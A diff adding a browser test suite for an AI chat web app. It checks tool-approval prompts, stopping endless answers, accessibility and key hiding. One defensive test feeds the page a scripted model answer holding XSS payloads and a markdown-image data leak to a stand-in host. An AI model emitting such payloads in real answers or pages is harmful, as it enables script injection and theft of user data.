@@ -1,0 +1,149 @@
+// The page with a scripted model: approvals, stop, hostile answers, small screens, accessibility.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { after, before, describe, it } from 'node:test';
+import { startGitServer } from './git-server.mjs';
+import { startModelServer } from './model-server.mjs';
+import { openPage, startBrowser, startServer } from './server.mjs';
+
+const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+const manifest = {
+  schema: 1, name: 'word', title: 'Word', version: '1.0.0', description: 'Says a word.',
+  tasks: [{ name: 'say', description: 'Says it.', effects: 'none',
+    parameters: { type: 'object', properties: { to: { type: 'string' } }, required: ['to'], additionalProperties: false } }],
+};
+
+describe('the page', () => {
+  let model;
+  let git;
+  let server;
+  let browser;
+  let context;
+
+  before(async () => {
+    model = await startModelServer(() => 'unscripted');
+    git = await startGitServer('acme/word', { 'manifest.json': JSON.stringify(manifest), run: '#!/bin/sh\necho "the word is out"\n' });
+    server = await startServer({ OPENAI_BASE_URL: model.url, OPENAI_API_KEY: 'sk-test', RUNGPT_GIT_BASE_URL: git.url });
+    await server.rungpt('shell', 'rungpt:install acme/word');
+    await fetch(`${server.origin}/api/settings`, {
+      method: 'PATCH',
+      headers: { authorization: `Bearer ${await server.token()}`, 'x-rungpt': '1', 'content-type': 'application/json' },
+      body: JSON.stringify({ defaultModel: 'openai/scripted' }),
+    });
+    browser = await startBrowser();
+    const first = await openPage(browser, server);
+    context = first.context;
+    await first.page.goto(server.loginUrl);
+    await first.page.getByText('What shall we run?').waitFor();
+    await first.page.close();
+  });
+
+  after(async () => {
+    await browser?.close();
+    await server?.close();
+    await git?.close();
+    await model?.close();
+  });
+
+  async function open(options = {}) {
+    const opened = await openPage(browser, server, { storageState: await context.storageState(), ...options });
+    await opened.page.goto(server.origin);
+    await opened.page.getByLabel('Message').waitFor();
+    return opened;
+  }
+
+  async function say(page, text) {
+    await page.getByLabel('Message').fill(text);
+    await page.getByLabel('Message').press('Enter');
+  }
+
+  it('asks before the first use of an installed action and tells the model of a denial', async () => {
+    model.state.script = (request) =>
+      request.last.includes('<result-') ? `I was told: ${/status="(\w+)"/.exec(request.last)[1]}.` : request.call('1', 'word.say', { to: 'me' });
+    const { page, problems } = await open();
+    await say(page, 'Say the word.');
+    await page.getByText('Allow word.say?').waitFor({ timeout: 60_000 });
+    await page.getByRole('button', { name: 'Deny' }).click();
+    await page.getByText('I was told: denied.').waitFor({ timeout: 30_000 });
+
+    model.state.script = (request) =>
+      request.last.includes('<result-') ? 'Thank you.' : request.call('2', 'word.say', { to: 'me' });
+    await say(page, 'Again.');
+    await page.getByRole('button', { name: 'Allow once' }).click({ timeout: 60_000 });
+    await page.getByText('the word is out').first().waitFor({ timeout: 120_000 });
+    await page.getByText('Thank you.').waitFor();
+    assert.deepEqual(problems, []);
+  });
+
+  it('stops an answer that does not end', async () => {
+    model.state.script = async function* () {
+      for (let i = 0; ; i++) {
+        yield `word ${i} `;
+        await new Promise((done) => setTimeout(done, 5));
+      }
+    };
+    const { page } = await open();
+    await say(page, 'Never end.');
+    await page.getByText(/word 20 /).waitFor();
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await page.getByText('You stopped this answer.').waitFor();
+    await page.getByRole('button', { name: 'Continue' }).waitFor();
+  });
+
+  it('runs nothing and fetches nothing of a hostile answer', async () => {
+    model.state.script = () => [
+      'Look:', '',
+      '![pixel](http://127.0.0.1:9/leak?d=SECRET)',
+      '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><iframe src="http://127.0.0.1:9/"></iframe>',
+      '[click](javascript:window.hacked=1) <svg onload="window.hacked=1"><image href="http://127.0.0.1:9/"/></svg>',
+      '<style>@import url(http://127.0.0.1:9/x.css)</style><link rel=prefetch href=http://127.0.0.1:9/>',
+      '```html', '<script>window.hacked=1</script>', '```', 'The end of it.',
+    ].join('\n');
+    const { page, problems } = await open();
+    await say(page, 'Attack.');
+    await page.getByText('The end of it.').waitFor();
+    assert.equal(await page.evaluate(() => window.hacked), undefined);
+    assert.equal(await page.locator('iframe, script:not([src])').count(), 0);
+    assert.deepEqual(problems, []);
+  });
+
+  for (const colorScheme of ['light', 'dark']) {
+    for (const width of [390, 1440]) {
+      it(`is accessible and fits, ${colorScheme}, ${width} pixels wide`, async () => {
+        model.state.script = () => '# Title\n\nSome **text**, `code` and a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\nThat was it.';
+        const { page, problems } = await open({ colorScheme, viewport: { width, height: 844 } });
+        await say(page, 'Format.');
+        await page.getByText('That was it.').waitFor();
+        assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'no horizontal scrolling');
+        assert.deepEqual(problems, []);
+        // The page itself forbids foreign scripts, so the checker goes into an isolated world through the debugger.
+        const found = await audit(page);
+        assert.deepEqual(found, []);
+      });
+    }
+  }
+
+  it('shows in the settings what is ready, and never a key', async () => {
+    const { page } = await open();
+    await page.getByRole('button', { name: 'Settings' }).click();
+    await page.getByRole('dialog').waitFor();
+    assert.ok(!(await page.content()).includes('sk-test'));
+    assert.deepEqual(await audit(page), []);
+  });
+
+  async function audit(page) {
+    const session = await page.context().newCDPSession(page);
+    const { frameTree } = await session.send('Page.getFrameTree');
+    const { executionContextId } = await session.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
+    await session.send('Runtime.evaluate', { expression: axe, contextId: executionContextId });
+    const { result } = await session.send('Runtime.evaluate', {
+      contextId: executionContextId,
+      awaitPromise: true,
+      returnByValue: true,
+      expression: `axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'] })
+        .then((found) => found.violations.map((it) => it.id + ': ' + it.nodes.map((node) => node.target.join(' ') + ' ' + (node.failureSummary ?? '').slice(0, 200)).join(' | ')))`,
+    });
+    return result.value;
+  }
+});
